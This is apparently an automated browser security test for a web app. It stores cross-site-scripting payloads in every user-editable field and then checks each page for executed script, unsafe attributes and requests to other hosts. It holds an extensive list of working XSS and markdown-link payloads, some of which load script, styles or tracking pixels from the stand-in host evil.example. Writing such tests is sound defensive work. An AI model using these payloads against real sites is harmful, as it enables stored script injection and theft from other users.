// Puts hostile texts into every field that takes text, and into a model's stream, and looks at every page that shows them:
// nothing may run, leave its box, or ask another host.
import { chromium } from "playwright-core";

const { BASE_URL, EMAIL, PASSWORD, API_KEY, CHROMIUM = "/usr/bin/chromium" } = process.env;

const RUN = "top.ran=1;alert(1)";
// What runs in a page that takes a text as HTML, as an attribute, as an address or as a script.
const CORES = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<scri<script>pt>${RUN}</scri</script>pt>`,
  `<SCRIPT/x>${RUN}</SCRIPT>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<svg onload="${RUN}">`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<body onload="${RUN}">`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<button formaction="javascript:${RUN}">go</button>`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import "//evil.example/x.css";*{display:none}</style>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<base href=//evil.example/>`,
  `<template><script>${RUN}</script></template>`,
  `<textarea></textarea><img src=x onerror="${RUN}">`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `--></style></script><script>${RUN}</script>`,
  `"><img src=x onerror="${RUN}">`,
  `' autofocus onfocus='${RUN}`,
  `" onmouseover="${RUN}" style="position:fixed;inset:0" x="`,
  "`${top.ran=1}` ${top.ran=1} {{top.ran=1}} {{constructor.constructor('top.ran=1')()}} <%= 1 %>",
  `<p style="position:fixed;inset:0;background:red;z-index:99999">over everything</p>`,
  `<div id=main></div><a id=csrf name=csrf></a><form id=composer></form>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
];
// Markdown that leads where it must not.
const LINKS = [
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](javascript&#x3a;${RUN})`,
  `[x](javascript&colon;${RUN})`,
  `[x](\u0001javascript:${RUN})`,
  `[x](<javascri\npt:${RUN}>)`,
  `[x](data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=)`,
  `[x](vbscript:msgbox(1))`,
  `[x](file:///etc/passwd)`,
  `[x](https://a.example"onmouseover="${RUN})`,
  `[x](https://a.example 'title" onmouseover="${RUN}')`,
  `![x](https://evil.example/pixel.png)`,
  `![x](//evil.example/pixel.png)`,
  `![x](javascript:${RUN})`,
  `![x" onerror="${RUN}](https://evil.example/a.png)`,
  `[![x](https://evil.example/b.png)](javascript:${RUN})`,
  `<javascript:${RUN}>`,
  `<https://evil.example/"onclick="${RUN}">`,
  `[a]: javascript:${RUN}\n\n[a]`,
  `[x]: https://a.example "t" onclick=x\n\n![x]`,
];
// Shapes that break a renderer or a layout.
const SHAPES = [
  "[".repeat(5000),
  "![".repeat(3000),
  "> ".repeat(1000) + "deep",
  "- ".repeat(500) + "deep",
  "*".repeat(5000) + "a" + "*".repeat(5000),
  "`".repeat(3000),
  "```",
  "```html\n<script>" + RUN + "</script>",
  "~~~js\" onclick=\"" + RUN + "\n1\n~~~",
  "|".repeat(2000) + "\n" + "|-".repeat(2000) + "\n",
  "| a |\n|---|\n".repeat(50) + "|" + "x|".repeat(500),
  "W".repeat(4000),
  "字".repeat(4000),
  "a\u0300".repeat(500),
  "Z\u0351\u036b\u0343\u036a\u0302\u036b".repeat(60),
  "\u202Egnp.exe\u202C reversed \u2066isolated\u2069 \u202D",
  "\u200B\u200D\uFEFF zero width \u2060",
  "\u0000\u0008\u001b[31m control".replace(/\u0000/g, ""),
  "👩‍👩‍👧‍👦".repeat(300),
  "# ".repeat(300) + "x",
  "&".repeat(3000),
  "&#0;&#xD800;&#x110000;&lt;&gt;",
  "\r\n".repeat(500) + "end",
  "1. ".repeat(300),
  "a  \n".repeat(500),
];
const CARRIERS = [
  (core) => core,
  (core) => `before **${core}** after`,
  (core) => `# ${core}\n\n> ${core}\n\n- ${core}\n\n| ${core} |\n|---|\n| ${core} |`,
];
const TEXTS = [...CARRIERS.flatMap((carry) => [...CORES, ...LINKS].map(carry)), ...SHAPES];

const problems = new Set();

async function call(path, body) {
  const response = await fetch(`${BASE_URL}${path}`, {
    method: "POST",
    headers: { authorization: `Bearer ${API_KEY}`, "content-type": "application/json" },
    body: JSON.stringify(body),
  });
  return { status: response.status, text: await response.text() };
}

// A text may be refused, by name; it must never be an internal error.
async function put(path, body, text) {
  const { status } = await call(path, body);
  if (status >= 500) problems.add(`${path}: ${status} for ${JSON.stringify(text.slice(0, 60))}`);
  return status < 300;
}

async function fill() {
  const stored = { memories: 0, notes: 0, interests: 0, chats: 0, posts: 0 };
  for (const text of TEXTS) {
    stored.memories += await put("/api/secondme/memory/key", { mode: "direct", content: text, visibility: 1 }, text);
    stored.notes += await put("/api/secondme/note/add", { title: text.slice(0, 100), content: text }, text);
  }
  for (const text of [...CORES, ...LINKS].slice(0, 40)) {
    const name = text.slice(0, 30);
    stored.interests += await put("/api/secondme/user/shades/create", { shadeName: name, shadeDescription: text, shadeContent: text }, text);
    stored.posts += await put("/api/secondme/plaza/posts/create", { content: text, type: "public" }, text);
  }
  for (const text of TEXTS.filter((_, at) => at % 3 === 0)) {
    stored.chats += await put("/api/secondme/chat/stream", { message: text }, text);
  }
  return stored;
}

async function watch(browser, viewport) {
  const context = await browser.newContext({ locale: "en-US", viewport });
  const page = await context.newPage();
  const where = () => new URL(page.url()).pathname + new URL(page.url()).search;
  page.on("dialog", (dialog) => {
    problems.add(`${where()}: a dialog: ${dialog.message()}`);
    dialog.dismiss();
  });
  page.on("request", (request) => {
    const url = new URL(request.url());
    if (url.protocol.startsWith("http") && url.origin !== BASE_URL) problems.add(`${where()}: asks ${url}`);
  });
  page.on("pageerror", (error) => problems.add(`${where()}: ${error.message}`));
  await page.goto(`${BASE_URL}/sign-in`);
  await page.fill("[name=email]", EMAIL);
  await page.fill("[name=password]", PASSWORD);
  await page.click("form[action='/sign-in'] button[type=submit]");
  await page.waitForURL((url) => url.pathname !== "/sign-in");
  return page;
}

// Looks at a page: nothing ran, no address or attribute that runs, nothing wider than the window.
async function look(page, path) {
  const response = await page.goto(BASE_URL + path);
  if (response.status() >= 500) problems.add(`${path}: status ${response.status()}`);
  await inspect(page, path);
}

async function inspect(page, path) {
  const found = await page.evaluate(() => {
    const bad = [];
    if (window.ran) bad.push("a script ran");
    for (const element of document.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        // The composer grows with its text.
        const isGrown = element.id === "message" && /^(height|overflow)[^;]*;?$/.test(value);
        if (name.startsWith("on") || (name === "style" && !isGrown)) bad.push(`${element.tagName} ${name}`);
        if (/^(href|src|action|formaction|xlink:href)$/.test(name) && /^\s*(javascript|vbscript|data|file):/i.test(value)) bad.push(`${name}=${value.slice(0, 60)}`);
      }
      if (/^(IFRAME|OBJECT|EMBED|BASE|STYLE|MARQUEE)$/.test(element.tagName)) bad.push(element.tagName);
      if (element.tagName === "SCRIPT" && !element.src.startsWith(`${location.origin}/assets/`)) bad.push("SCRIPT");
    }
    const over = document.documentElement.scrollWidth - innerWidth;
    if (over > 0) bad.push(`scrolls sideways by ${over}`);
    return bad;
  });
  for (const text of found) problems.add(`${path}: ${text}`);
}

async function links(page, pattern) {
  const found = await page.$$eval("a[href]", (all) => all.map((link) => link.getAttribute("href")));
  return [...new Set(found.filter((href) => pattern.test(href)).map((href) => href.replace(/#.*/, "")))];
}

// Follows the pages of a list, and opens its entries.
async function walk(page, start, entry, most) {
  const entries = new Set();
  const next = [start];
  const seen = new Set();
  while (next.length && seen.size < 12) {
    const path = next.shift();
    if (seen.has(path)) continue;
    seen.add(path);
    await look(page, path);
    for (const href of await links(page, entry)) entries.add(href);
    next.push(...(await page.$$eval("a[rel=next][href]", (all) => all.map((link) => link.getAttribute("href")))));
  }
  for (const path of [...entries].slice(0, most)) await look(page, path);
  return entries.size;
}

// Sends texts in the chat page, whose provider streams them back.
async function converse(page, texts) {
  for (const text of texts) {
    await page.goto(`${BASE_URL}/chat`);
    await page.fill("#message", text);
    await page.press("#message", "Enter");
    await page.waitForURL(/session=/, { timeout: 20_000 }).catch(() => problems.add(`/chat: no conversation for ${JSON.stringify(text.slice(0, 60))}`));
    await page.waitForTimeout(150);
    await inspect(page, `/chat while ${JSON.stringify(text.slice(0, 40))} streams`);
  }
}

// The fields of developers, teams, the Plaza and administrators, which take a session.
async function fillMore(page) {
  const stored = { apps: 0, keys: 0, hubKeys: 0, apis: 0, comments: 0, circles: 0, reports: 0, avatars: 0 };
  const send = async (path, body, text) => {
    const answer = await page.request.post(BASE_URL + path, { data: body });
    if (answer.status() >= 500) problems.add(`${path}: ${answer.status()} for ${JSON.stringify(text.slice(0, 60))}`);
    return answer.status() < 300 ? (JSON.parse(await answer.text()).data ?? true) : undefined;
  };
  const post = await send("/api/secondme/plaza/posts/create", { content: "to be answered", type: "public" }, "");
  for (const [at, text] of [...CORES, ...LINKS].filter((_, at) => at % 3 === 0).entries()) {
    const [name, about] = [text.slice(0, 50), text.slice(0, 400)];
    const app = { appName: name, appDescription: about, redirectUris: ["https://a.example/cb"], allowedScopes: ["userinfo"] };
    stored.apps += Boolean(await send("/api/applications/external/create", app, text));
    stored.keys += Boolean(await send("/api/apikey/create", { name, scopes: ["user.info"] }, text));
    stored.hubKeys += Boolean(await send("/api/apikey/hub/keys/create", { name }, text));
    const api = { code: `h-${at}`, name, description: about, provider: { kind: "echo" } };
    stored.apis += Boolean(await send("/api/apikey/hub/apis/save", api, text));
    stored.comments += Boolean(await send("/api/secondme/plaza/posts/comment", { postId: post.postId, content: about }, text));
    stored.circles += Boolean(await send("/api/secondme/plaza/circles/create", { circleRoute: `c${at}`, name, description: about }, text));
    const card = { content: about, type: "public", topicTitle: name, link: "https://a.example/", linkMeta: { title: name, description: about } };
    // The number of posts in an hour is limited.
    const carded = at < 6 && await send("/api/secondme/plaza/posts/create", card, text);
    if (carded) stored.reports += Boolean(await send("/api/secondme/plaza/report", { postId: carded.postId, reason: about }, text));
    stored.avatars += Boolean(await send("/api/secondme/avatar/create", { title: name, welcomeNote: about, opening: about }, text));
  }
  for (const [kind, count] of Object.entries(stored)) if (count < 1) problems.add(`no ${kind} were stored`);
}

async function lookMore(page) {
  for (const path of ["/apps", "/keys", "/hub", "/hub/keys", "/hub/apis", "/hub/calls", "/plaza/circles", "/plaza/replies", "/plaza/admin", "/plaza/me", "/visitors", "/admin/audit", "/admin/people"]) await look(page, path);
  await walk(page, "/apps", /^\/apps\/[\w-]{30,}$/, 6);
  await walk(page, "/hub/keys", /^\/hub\/keys\/\d+$/, 6);
  await walk(page, "/hub/apis", /^\/hub\/(apis\/h-|try\?api=h-)/, 8);
  await walk(page, "/plaza", /^\/plaza\/(posts|topics)\//, 12);
  for (const text of CORES.slice(0, 12)) {
    const word = encodeURIComponent(text.slice(0, 60));
    for (const path of ["/docs/search?q=", "/hub/calls?api=", "/hub/try?api=echo&action=", "/admin/audit?q=", "/admin/people?text=", "/plaza?keyword="]) await look(page, path + word);
  }
}

const browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"] });
const page = await watch(browser, { width: 390, height: 844 });
await fillMore(page);
const stored = await fill();
for (const [kind, count] of Object.entries(stored)) if (count < 20) problems.add(`only ${count} ${kind} were stored`);
await walk(page, "/memories", /^\/memories\/\w+\/\d+/, 24);
await walk(page, "/notes", /^\/notes?\/\d+|^\/notes\?|^\/memories\/note\/\d+/, 24);
await walk(page, "/chat", /^\/chat\?session=/, 24);
await walk(page, "/plaza", /^\/plaza\/posts\//, 20);
await walk(page, "/profile", /^\/profile\/interests\/\d+/, 20);
await lookMore(page);
await look(page, "/");
for (const text of CORES) await look(page, `/search?q=${encodeURIComponent(text.slice(0, 190))}`);
for (const text of CORES.slice(0, 12)) await look(page, `/memories?q=${encodeURIComponent(text.slice(0, 190))}`);
await converse(page, [...CORES, ...LINKS, ...SHAPES].filter((_, at) => at % 6 === 0));
await browser.close();
for (const problem of problems) console.log(problem);
console.log(problems.size ? `${problems.size} problems with ${TEXTS.length} texts` : "done");
